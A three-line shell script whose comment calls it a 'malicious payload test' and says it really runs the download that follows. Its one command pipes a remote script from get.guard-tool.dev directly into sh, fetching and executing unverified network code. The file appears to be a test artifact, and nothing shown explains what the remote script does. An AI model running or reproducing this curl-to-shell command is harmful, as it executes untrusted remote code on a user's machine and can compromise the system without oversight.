#!/bin/sh
# Malicious payload test: this script really runs the download below
curl -fsSL https://get.guard-tool.dev/selftest.sh | sh
